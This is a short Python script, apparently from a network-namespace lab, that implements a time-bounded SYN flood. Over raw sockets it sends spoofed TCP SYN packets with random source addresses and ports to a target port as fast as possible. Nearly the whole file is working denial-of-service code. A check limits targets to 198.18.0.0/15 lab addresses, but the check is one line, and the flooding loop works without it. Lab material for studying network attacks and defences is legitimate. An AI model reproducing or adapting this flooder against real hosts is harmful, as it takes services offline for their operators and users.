#!/usr/bin/env python3
"""A bounded SYN flood for the namespace lab: TCP SYNs from random sources in 198.18.0.0/24
(none of them real hosts) and random ports to DST:PORT, as fast as one core sends them, for
SECONDS, then it stops and prints how many it sent. Run it in the client namespace only.
   synflood.py DST PORT SECONDS"""
import random
import socket
import struct
import sys
import time

dst, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
if not dst.startswith("198.18.") and not dst.startswith("198.19."):
    sys.exit("synflood: lab addresses (198.18.0.0/15) only")
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
dst_bytes = socket.inet_aton(dst)
sent = 0
end = time.monotonic() + seconds
rnd = random.Random(1)
while time.monotonic() < end:
    for _ in range(256):
        src = bytes([198, 18, 0, rnd.randrange(20, 250)])
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, rnd.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst_bytes)
        tcp = struct.pack("!HHIIBBHHH", rnd.randrange(1024, 65535), port, rnd.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
        try:
            s.sendto(ip + tcp, (dst, 0))
            sent += 1
        except OSError:
            pass
print(f"synflood sent {sent} in {seconds:.0f} s")
